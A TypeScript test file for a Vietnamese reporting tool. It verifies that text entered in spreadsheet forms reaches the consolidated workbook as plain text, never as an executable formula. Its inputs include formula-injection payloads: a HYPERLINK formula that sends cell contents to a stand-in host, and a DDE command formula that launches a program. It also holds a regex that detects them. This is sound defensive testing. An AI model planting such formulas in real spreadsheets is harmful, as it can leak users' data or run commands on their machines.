import ExcelJS from "exceljs";
import { mergeReports } from "../../src/assessment/mergeReports";
import { readFile } from "../../src/intake/readFile";
import type { Cell } from "../../src/report/Cells";
import type { Report } from "../../src/report/Report";
import { buildConsolidated } from "../../src/workbook/consolidated/buildConsolidated";
import { buildTemplate } from "../../src/workbook/template/buildTemplate";
import { readXlsx } from "../../src/xlsx/readXlsx";
import { writeXlsx } from "../../src/xlsx/writeXlsx";
import { demoFillings } from "../support/demoFillings";
import { convertWithLibreOffice } from "../support/libreOffice";
import { outline2025 } from "../support/outline2025";

/** What a unit writes stays text, to the letter, from its file to the consolidated workbook. */
const outline = outline2025();
const texts: readonly (readonly [string, string])[] = [
  ["a link as a formula", '=HYPERLINK("http://xau.example/?"&A1,"Bấm vào đây")'],
  ["a command as a formula", "=cmd|' /C calc'!A0"],
  ["plus", "+84 912 345 678"],
  ["minus", "-1+2"],
  ["at", "@SUM(1+1)"],
  ["a leading apostrophe", "'120 hồ sơ"],
  ["an error word", "#N/A"],
  ["a truth value", "TRUE"],
  ["a number", "00123"],
  ["line breaks", "- Một\n- Hai\n\n+ Ba"],
  ["emoji and beyond", "Tốt 👍🏽 𝄞 ký tự"],
  ["decomposed letters", "Đã hoàn thành nhiệm vụ".normalize("NFD")],
  ["markup", "<b>&amp; ]]> </b> _x0041_ {dossiers.received}"],
  ["as long as a cell can be", `Đầu ${"văn bản dài ".repeat(2727)}`.slice(0, 32_766) + "!"],
];
const narratives = outline.items.filter((item) => item.kind === "text").slice(0, texts.length);
const answers = Object.fromEntries(narratives.map((item, index) => [item.id, texts[index]![1]]));

let report: Report;
let consolidated: Uint8Array;
beforeAll(async () => {
  const unit = outline.unitOf("KT");
  const sample = demoFillings.KT;
  const meta = { ...sample.meta, reporter: "=1+1" };
  const notes = { ...sample.notes, "dossiers.overdue": "=2+3" };
  const form = await writeXlsx(
    buildTemplate(outline, { unit, filling: { meta, notes, answers: { ...sample.answers, ...answers } } }),
  );
  const read = readFile("=1+1.xlsx", form, outline);
  if (!read.ok) throw new Error(read.refusal.message);
  report = read.report;
  consolidated = await writeXlsx(buildConsolidated(mergeReports([report], outline)));
});

test.each(texts)("%s comes out of the form as it went in", (_name, text) => {
  const item = narratives[texts.findIndex(([, known]) => known === text)]!;
  expect(report.entries.get(item.id)).toMatchObject({ raw: text });
});

test.each(texts.filter(([name]) => name !== "as long as a cell can be"))(
  "%s stands in the consolidated workbook as text",
  (_name, text) => {
    const found = cellsOf(consolidated, "Thuyết minh").filter((cell) => cell.value === text);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ type: "text" });
    expect(found[0]!.formula).toBeUndefined();
  },
);

test("a text too long to print goes on in the rows below and nothing of it is lost", () => {
  const [, long] = texts.at(-1)!;
  const parts = cellsOf(consolidated, "Thuyết minh").map(({ value }) => String(value));
  const start = parts.findIndex((part) => long.startsWith(part) && part.startsWith("Đầu văn bản"));
  let whole = parts[start]!;
  for (const part of parts.slice(start + 1)) if (long.startsWith(whole + part)) whole += part;
  expect(whole.length).toBe(long.length);
});

test("no formula of the consolidated workbook holds a word of a unit, in exceljs and after LibreOffice", async () => {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(consolidated.slice().buffer);
  const formulas: string[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) => row.eachCell((cell) => void (cell.formula && formulas.push(cell.formula)))),
  );
  expect(formulas.length).toBeGreaterThan(100);
  const foreign = (text: string): boolean => /HYPERLINK|cmd|84 912|2\+3/.test(text);
  expect(formulas.filter(foreign)).toEqual([]);
  const resaved = convertWithLibreOffice({ consolidated }, "xlsx", true).consolidated!;
  const read = readXlsx(resaved);
  if (!read.ok) throw new Error(read.message);
  const all = read.cells.sheets.flatMap((sheet) => [...sheet.cells.values()]);
  expect(all.filter((cell) => cell.formula !== undefined && foreign(cell.formula))).toEqual([]);
});

function cellsOf(bytes: Uint8Array, name: string): Cell[] {
  const read = readXlsx(bytes);
  if (!read.ok) throw new Error(read.message);
  return [...read.cells.sheets.find((sheet) => sheet.name === name)!.cells]
    .sort(([a], [b]) => a - b)
    .map(([, cell]) => cell);
}
